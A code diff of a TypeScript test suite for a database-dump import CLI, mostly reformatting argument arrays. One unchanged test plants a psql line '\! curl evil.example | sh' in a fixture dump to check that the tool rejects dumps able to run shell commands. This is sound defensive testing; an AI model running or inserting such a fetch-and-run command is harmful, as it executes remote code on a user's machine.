@@ -25,7 +25,20 @@ describe('import: encrypted archives, and dumps that are not pg_dumpall scripts'
 
   it('--encrypt-to writes <name>.zip.age, which verify reads with the identity', async () => {
     const key = await ageKeygen(dir);
-    const result = await runCli(['import', '--dump', dump, '--allow-missing-database', '--output-dir', out, '--allow-missing-files', '--cupm-version', '8.5', '--encrypt-to', key.recipient, '--json']);
+    const result = await runCli([
+      'import',
+      '--dump',
+      dump,
+      '--allow-missing-database',
+      '--output-dir',
+      out,
+      '--allow-missing-files',
+      '--cupm-version',
+      '8.5',
+      '--encrypt-to',
+      key.recipient,
+      '--json',
+    ]);
     expect(result.exitCode, result.stderr).to.equal(0);
     const json = result.json<{ archive: string; encrypted: boolean }>();
     expect(json.encrypted).to.equal(true);
@@ -39,9 +52,21 @@ describe('import: encrypted archives, and dumps that are not pg_dumpall scripts'
     const hostile = path.join(dir, 'hostile.sql');
     await fs.writeFile(hostile, SAMPLE_DUMP.replace('CREATE ROLE cupm;', 'CREATE ROLE cupm;\n\\! curl evil.example | sh'));
     const target = path.join(dir, 'hostile-out');
-    const result = await runCli(['import', '--dump', hostile, '--allow-missing-database', '--output-dir', target, '--allow-missing-files', '--cupm-version', '8.5']);
+    const result = await runCli([
+      'import',
+      '--dump',
+      hostile,
+      '--allow-missing-database',
+      '--output-dir',
+      target,
+      '--allow-missing-files',
+      '--cupm-version',
+      '8.5',
+    ]);
     expect(result.exitCode, result.stderr).to.equal(3);
-    expect(result.stderr).to.match(/hostile\.sql is not a pg_dumpall script psql may run: line 6: "\\!" runs a shell command on this machine/);
+    expect(result.stderr).to.match(
+      /hostile\.sql is not a pg_dumpall script psql may run: line 6: "\\!" runs a shell command on this machine/,
+    );
     expect(result.stderr).to.match(/no archive was written/);
     expect((await fs.readdir(target)).filter((n) => n.startsWith('cupm-backup_'))).to.deep.equal([]);
   });
